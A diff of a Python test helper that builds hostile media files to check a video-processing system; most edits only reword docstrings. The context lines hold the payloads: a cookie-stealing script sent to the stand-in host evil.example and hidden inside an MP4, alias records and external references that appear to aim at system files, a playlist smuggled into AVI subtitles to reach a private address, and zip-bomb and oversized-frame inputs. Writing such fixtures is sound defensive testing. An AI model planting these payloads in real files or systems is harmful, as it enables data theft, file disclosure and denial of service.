@@ -16,7 +16,7 @@ _HUGE = 2**32 - 1
 
 @cache
 def clip(name: str = "clip.mp4", *, seconds: float = 1, codec: str = "mpeg4", has_picture: bool = True) -> bytes:
-    """Make a good clip; in MP4 its index is at the end, where it may grow without moving a frame."""
+    """Make a good clip. In MP4 its index is at the end, where it may grow without moving a frame."""
     with TemporaryDirectory() as directory:
         file = Path(directory) / name
         sound = "libopus" if name.endswith(".webm") else "aac"
@@ -25,13 +25,13 @@ def clip(name: str = "clip.mp4", *, seconds: float = 1, codec: str = "mpeg4", ha
 
 
 def box(name: bytes, *contents: bytes) -> bytes:
-    """Write a box of MP4 (ISO 14496-12)."""
+    """Return a box of MP4 (ISO 14496-12)."""
     content = b"".join(contents)
     return struct.pack(">I4s", 8 + len(content), name) + content
 
 
 def element(number: str, *contents: bytes) -> bytes:
-    """Write an element of Matroska (RFC 8794), its size in eight bytes."""
+    """Return an element of Matroska (RFC 8794), with its size in eight bytes."""
     content = b"".join(contents)
     return bytes.fromhex(number) + (2**56 | len(content)).to_bytes(8, "big") + content
 
@@ -40,7 +40,7 @@ _PARENTS = frozenset({b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl"})
 
 
 def with_boxes(file: bytes, name: bytes, change: Callable[[bytes], bytes]) -> bytes:
-    """Rewrite the content of each box of a name, wherever in the index it is, and the sizes of all around it."""
+    """Rewrite the content of each box of a name, wherever in the index it is, and the sizes of all boxes around it."""
     written, at = [], 0
     while at < len(file):
         size, found = struct.unpack_from(">I4s", file, at)
@@ -58,13 +58,13 @@ def _at(offset: int, new: bytes) -> Callable[[bytes], bytes]:
     return lambda content: content[:offset] + new + content[offset + len(new) :]
 
 
-def _external(kind: bytes, place: bytes) -> Callable[[bytes], bytes]:
-    """Say that the track's data are in another file: one entry, whose flags do not say "in this file"."""
-    return lambda _: struct.pack(">II", 0, 1) + box(kind, struct.pack(">I", 0), place + b"\0")
+def _external(kind: bytes, address: bytes) -> Callable[[bytes], bytes]:
+    """Claim that the track's data are in another file: one entry, whose flags do not say "in this file"."""
+    return lambda _: struct.pack(">II", 0, 1) + box(kind, struct.pack(">I", 0), address + b"\0")
 
 
 def _alias(path: bytes) -> bytes:
-    """Write what QuickTime calls an alias record, with an absolute path (type 18) as libavformat reads it."""
+    """Return what QuickTime calls an alias record, with an absolute path (type 18), as libavformat reads it."""
     head = bytes(10) + b"\x04disk".ljust(28, b"\0") + bytes(12) + b"\x06passwd".ljust(64, b"\0") + bytes(16)
     levels = struct.pack(">hh", 0, 0) + bytes(16)
     return head + levels + struct.pack(">HH", 18, len(path)) + path + bytes(len(path) % 2) + b"\xff\xff\x00\x00"
@@ -100,14 +100,14 @@ def _many_tracks_in_matroska(count: int) -> bytes:
 
 
 def _matroska_of_duration(seconds: float) -> bytes:
-    """Change what a file says of its own length: a double after the element's number and size (RFC 9559)."""
+    """Change the length that a file claims: a double after the element's number and size (RFC 9559)."""
     file = clip("clip.mkv")
     at = file.index(b"\x44\x89\x88") + 3
     return file[:at] + struct.pack(">d", seconds * 1000) + file[at + 8 :]
 
 
 def _with_attachments() -> bytes:
-    """Carry along what players may open: subtitles that are a page, a font, and a program."""
+    """Attach what players may open: subtitles that are a page, a font, and a program."""
     file = clip("clip.mkv")
     attached = b"".join(
         element("61A7", element("466E", name), element("4660", kind), element("465C", content), element("46AE", b"\1"))
@@ -117,7 +117,7 @@ def _with_attachments() -> bytes:
             (b"font.ttf", b"application/x-truetype-font", b"\0\1\0\0" + bytes(2000)),
         )
     )
-    # The segment's size is known and its clusters follow: what is appended behind them is read as part of the file.
+    # The segment's size is known and its clusters follow, so what is appended after them is read as part of the file.
     at = file.index(bytes.fromhex("18538067")) + 4
     head = file[:at] + b"\x01" + b"\xff" * 7  # of unknown size
     return head + file[at + 8 :] + element("1941A469", attached)
@@ -131,7 +131,7 @@ def _deep(depth: int) -> bytes:
 
 
 def _compressed_index(unpacked_bytes: int) -> bytes:
-    """Pack an index of nothing: QuickTime's `cmov`."""
+    """Compress an index of nothing: QuickTime's `cmov`."""
     packed = zlib.compress(bytes(unpacked_bytes), 1)
     index = box(b"moov", box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", struct.pack(">I", unpacked_bytes), packed)))
     return box(b"ftyp", b"qt  \0\0\2\0qt  ") + index
@@ -145,14 +145,14 @@ def _zip_bomb() -> bytes:
 
 
 def _huge_vp8() -> bytes:
-    """Say in the first frame that the picture has 16383 by 16383 dots: the key frame's header (RFC 6386, 9.1)."""
+    """Claim 16383 by 16383 pixels in the first frame: the key frame's header (RFC 6386, 9.1)."""
     file = clip("clip.webm", codec="libvpx")
     at = file.index(b"\x9d\x01\x2a") + 3
     return file[:at] + b"\xff\x3f\xff\x3f" + file[at + 4 :]
 
 
 def _page_inside() -> bytes:
-    """Begin as a video and be a page as well, to who looks for one."""
+    """Begin as a video and also be a page, to whoever looks for one."""
     page = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
     return clip() + box(b"free", page)
 
@@ -162,9 +162,9 @@ def _chunk(name: bytes, *contents: bytes) -> bytes:
     return name + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)
 
 
-def _avi_with_playlist(place: str) -> bytes:
+def _avi_with_playlist(address: str) -> bytes:
     """Hide a playlist in the subtitles of an AVI file: readers that guess the subtitles' format would follow it."""
-    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{place}\n#EXT-X-ENDLIST\n".encode()
+    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{address}\n#EXT-X-ENDLIST\n".encode()
     subtitles = b"GAB2\0\2\0" + struct.pack("<IHI", 2, 0, len(playlist))[0:0]
     subtitles += struct.pack("<I", 2) + b"\0\0" + struct.pack("<HI", 4, len(playlist)) + playlist
 
@@ -218,5 +218,5 @@ _MAKERS: dict[str, Callable[[str], bytes]] = {
 
 
 def hostile_file(name: str, *, private: str) -> bytes:
-    """Make a file by its name. `private` is where nobody may be led."""
+    """Make a file by its name. `private` is an address to which nothing may connect."""
     return _MAKERS[name](private)
